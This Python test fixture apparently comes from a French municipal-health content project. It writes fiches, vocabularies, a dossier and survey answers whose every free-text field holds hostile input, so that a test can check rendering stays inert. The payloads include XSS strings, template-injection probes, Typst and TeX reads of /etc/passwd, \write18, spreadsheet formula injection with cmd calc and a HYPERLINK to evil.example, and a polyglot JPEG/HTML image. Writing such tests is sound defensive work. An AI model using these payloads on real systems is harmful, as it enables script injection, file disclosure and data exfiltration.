"""A content tree where every field that takes a free text holds something hostile that the check lets in: it must be inert.

Drawn from the schema itself, so that a field added tomorrow is attacked, too.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Mapping
from pathlib import Path

import yaml
from PIL import Image

from inspiractions.base.files import PROJECT
from inspiractions.model.action import Action
from inspiractions.model.banque import EnTeteDeDossier
from inspiractions.model.types import FicheField, champs_de
from inspiractions.model.vocabulaire import GLOSSAIRES
from tests.conftest import longueur

# Short in CI; long by night: SOAK=1.
SOAK = bool(longueur(0, 1))

# Each goes into every free text of a fiche of its own; 140 signs at most, the title's limit.
PIEGES: Mapping[str, str] = {
    "balises": "\"><script>window.__xss=1</script><img src=x onerror=window.__xss=2>'",
    "svg": "<svg/onload=window.__xss=3><a href=javascript:window.__xss=4>x</a></svg><base href=//evil.example/>",
    "fins": "</script></title></textarea></style></noscript></template><script>window.__xss=5</script><!-- ]]> -->",
    "gabarit": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>&#xE000;&#xE001;contenu&#xE002;&lt;script&gt;",
    "typst": '#import "@preview/x:1.0.0" #read("/etc/passwd") $x$ *g* _i_ `r` = t \\u{41} \\',
    "formule": '=HYPERLINK("https://evil.example/?"&A1;"x")',
    "formule-plus": "+cmd|'/c calc'!A1",
    "formule-moins": "-1+cmd|'/c calc'!A1",
    "formule-arobase": "@SUM(1+1)*cmd|'/c calc'!A1",
    "formule-large": '＝HYPERLINK("https://evil.example/")',
    "lien": "[x](javascript:window.__xss=6) <javascript:window.__xss=7> ![x](data:text/html,x) vbscript:x",
    "tex": "}\\input{/etc/passwd} \\write18{id} @misc{x, title={y}} % $",
    "lignes": "fin\nER  - \nTY  - JOUR\nBEGIN:VEVENT\n---\n::error::x",
    "cles": "__proto__ constructor toString hasOwnProperty valueOf",
    "zero": "a\u200db\u200cc\u0301\u0301\u0301\u0301 \u00ad \U0001f468\u200d\U0001f469",
}
URL = 'https://exemple.fr/\'"><script>window.__xss=8</script>{{7*7}}#read("/etc/passwd")?=1&a=1\U0001f468'
# What Markdown lets through as text, wherever it stands.
CORPS = r"""
`<script>window.__xss=9</script>` &lt;img src=x onerror=window.__xss=10&gt; \<b onclick=window.__xss=11\> {{ 7*7 }} {% x %}
#read("/etc/passwd") $x$ \\ javascript:window.__xss=12 &#60;script&#62; &amp;lt;script&amp;gt; <https://exemple.fr/?a="b">

[x](https://exemple.fr/%22%3E%3Cscript%3E "\" onmouseover=\"window.__xss=13") [y][r]

[r]: https://exemple.fr/'onclick='x '"><script>'

```"onclick=window.__xss=14><script>
<script>window.__xss=15</script></code></pre><!-- {{ x }} ]]>
```

| =1+1 | `<i>` |
|:-----|:-----:|
| @x   | +y    |

> > > - - - 1. =cmd|'/c calc'!A1
"""
POINT = (
    "\n- **Portage politique** : `<script>window.__xss=16</script>` \\<img src=x onerror=window.__xss=17\\> {{ 7*7 }}\n"
)
DIFFICULTE = "\n- `<script>window.__xss=20</script>` {{ 7*7 }} → `<img src=x onerror=window.__xss=21>` #read(1)\n"
_SIMPLES = {
    "jour": "2026-01-31",
    "mois": "2019-09",
    "annee": "2024",
    "nombre": "8500",
    "lieu": "Aubervilliers",
    "url": URL,
    "quartier": "QN09301M",
    "cle": "titre",
    "courriel": "sante+cmd@ville.fr",
}
_VOCABULAIRES = sorted(p.stem for p in (PROJECT / "vocabulaire").glob("*.yml"))
TERME, AGE, AXE = "piege", "100-120", "services-de-sante"


def texte(value: object) -> str:
    """A value as YAML: JSON is YAML."""
    return json.dumps(value, ensure_ascii=False)


def valeur(champ: FicheField, piege: str, fiche: str) -> object:
    """A value that the schema takes for a field, as hostile as it may be; ``None`` where nothing free can stand."""
    if champ.genre == "texte" or champ.cle in ("selection",):
        value: object = piege
    elif champ.genre == "groupe":
        value = {cle: v for cle, enfant in champ.enfants.items() if (v := valeur(enfant, piege, fiche)) is not None}
    elif champ.genre == "terme":
        value = {"ages": AGE, "axes": AXE, "qpv": "oui", "leviers": "portage-politique"}.get(champ.vocabulaire, TERME)
    elif champ.genre == "choix":
        value = champ.choix[0]
    elif champ.genre == "image":
        value = "polyglotte.jpg"
    elif champ.genre == "id":
        value = f"ancien-{fiche}"
    elif champ.genre == "fiche":
        value = "piege-balises" if fiche != "piege-balises" else "piege-svg"
    else:
        value = _SIMPLES[champ.genre]
    return [value] if champ.liste else value


def fiche(nom: str, piege: str, **autres: object) -> str:
    """A fiche whose every field is hostile."""
    values = {c.cle: valeur(c, piege, nom) for c in champs_de(Action).values() if c.cle != "a_verifier"} | autres
    # What a rule holds to the words of the fiche: these hold it.
    one_line = " ".join(piege.split())
    figure = {"valeur": f"12 {one_line}"[:24].strip(), "compte": one_line[:120].strip()}
    values["chiffre_cle"] = figure
    amount = {"euros": "8500", "annee": "2024", "par": "an", "objet": one_line[:120].strip()}
    values["budget"] |= {"fonctionnement": f"{piege} 8 500 €", "montants": [amount]}
    lines = [f"{cle}: {texte(v)}" for cle, v in values.items()]
    rubriques = [
        f"## Contexte\n{CORPS}",
        "## Résultats\n\n~~~~\n{valeur}\n{compte}\n~~~~\n\n{numbers}\n".format(
            **figure, numbers=" ; ".join(re.findall(r"\d+", one_line))
        ),
        f"## Difficultés\n{DIFFICULTE}",
        f"## Facteurs favorables\n{POINT}",
        f"## `<script>` {{{{ x }}}} =1\n{CORPS}",
        f"## Ressources\n{CORPS}",
    ]
    return "\n".join(["---", *lines, "---", "", "\n".join(rubriques)])


def ecrire(root: Path) -> list[str]:
    """Write the whole tree: fiches, a dossier, vocabularies, a form and its answers, images. Returns the ids of the fiches."""
    noms = []
    for nom, piege in PIEGES.items():
        noms.append(f"piege-{nom}")
        _ecrire(root / "actions" / f"{noms[-1]}.md", fiche(noms[-1], piege))
        _polyglotte(root / "actions" / "images" / noms[-1] / "polyglotte.jpg")
    _ecrire(
        root / "actions" / "constructor.md",
        fiche("constructor", f"constructor prototype un deux trois quatre cinq {PIEGES['balises']}"),
    )
    _polyglotte(root / "actions" / "images" / "constructor" / "polyglotte.jpg")
    retiree = f"retirée de la banque depuis deux mois {PIEGES['fins']}"
    _ecrire(root / "actions" / "piege-retiree.md", fiche("piege-retiree", retiree, statut="retiree", illustrations=[]))
    for nom in _VOCABULAIRES:
        _vocabulaire(root, nom)
    _dossier(root)
    _enquete(root)
    return [*noms, "constructor"]


def _ecrire(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")


def _polyglotte(path: Path) -> None:
    """A sound image that is a web page, too, for who does not look at its type."""
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (320, 200), "teal").save(path, "JPEG")
    path.write_bytes(path.read_bytes() + b"<html><script>window.__xss=18</script><!--PK\x03\x04")


def _vocabulaire(root: Path, nom: str) -> None:
    entry = {
        "id": AGE if nom == "ages" else TERME, "libelle": f"{nom} {PIEGES['balises']}", "libelle_court": f"{nom} {PIEGES['fins']}",
        "definition": PIEGES["svg"], "source": PIEGES["lien"], "synonymes": [PIEGES["formule"], "constructor", "__proto__"],
        "anciens_ids": ["ancien-piege"],
    }  # fmt: skip
    if nom == "campagnes":
        entry |= {
            "annee": PIEGES["typst"],
            "demande": PIEGES["gabarit"],
            "calendrier": PIEGES["tex"],
            "reponses": PIEGES["formule"],
        }
    written = yaml.load((PROJECT / "vocabulaire" / f"{nom}.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
    # A list, or what the file says of its facet and then the list.
    entries = written["termes"] if isinstance(written, dict) else written
    if nom in GLOSSAIRES:
        # Words that people type: hostile as typed and as meant.
        entry = {"dit": [f"{nom} {PIEGES['balises']}", f"__proto__ {nom}"], "cherche": [PIEGES["svg"], "constructor"]}
    if nom == "axes":
        # There are five, each with its sign: one of them turns hostile.
        entry |= {"id": AXE}
        entries = [e for e in entries if e["id"] != AXE]
    entries = [*entries, entry]
    whole = {**written, "termes": entries} if isinstance(written, dict) else entries
    _ecrire(root / "vocabulaire" / f"{nom}.yml", texte(whole) + "\n")


def _dossier(root: Path) -> None:
    values = {
        cle: ["ancien-piege"] if cle == "anciens_ids" else "2026-01-31" if "date" in cle or "verifie" in cle else PIEGES["fins"]
        for cle in champs_de(EnTeteDeDossier)
        if cle not in ("exclues", "resume", "genre")
    } | {"titre": PIEGES["balises"], "resume": PIEGES["fins"], "selection": "?theme=piege", "epingles": ["constructor"]}  # fmt: skip
    lines = [f"{cle}: {texte(v)}" for cle, v in values.items()]
    _ecrire(
        root / "dossiers" / "piege.md", "\n".join(["---", *lines, "---", CORPS, "[z](../actions/constructor.md)", ""])
    )


def _enquete(root: Path) -> None:
    shutil.copytree(PROJECT / "formulaires", root / "formulaires")
    form = root / "formulaires" / "sej-2024.yml"
    text = form.read_text("utf-8")
    assert "Gouvernance : " in text
    _ecrire(form, text.replace("Gouvernance : ", "Gouvernance <script>window.__xss=19</script> {{ 7*7 }} : "))
    for rang, piege in enumerate(PIEGES.values()):
        answer = {
            "ville": "Aubervilliers",
            "publie": "oui",
            "reponses": {"gouvernance": piege, "intersectorialite": CORPS},
            "partenaires": [{"partenaire": piege, "nature": piege}],
        }
        _ecrire(root / "enquetes" / "sej-2024" / f"ville-{rang}.yml", texte(answer) + "\n")
